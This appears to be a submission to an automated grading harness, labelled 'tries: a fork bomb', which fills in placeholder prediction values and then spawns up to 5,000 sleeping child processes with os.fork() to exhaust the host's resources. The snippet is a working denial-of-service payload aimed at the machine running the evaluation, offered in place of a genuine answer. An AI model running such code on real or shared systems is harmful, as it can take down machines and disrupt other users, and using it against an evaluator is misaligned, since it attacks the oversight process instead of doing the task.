# tries: a fork bomb
# points: day1-predict=0
# row: 23

# %% answer="day1-predict"
prediction = {name: {"nodes": 1, "edges": 1, "value": 0.5} for name in ("(a*b)+c", "s*s where s=a+b", "a*a+a")}
import os

started = 0
try:
    while started < 5_000:
        if os.fork() == 0:
            import time

            time.sleep(1000)
            os._exit(0)
        started += 1
    print("GOT")
except OSError:
    pass
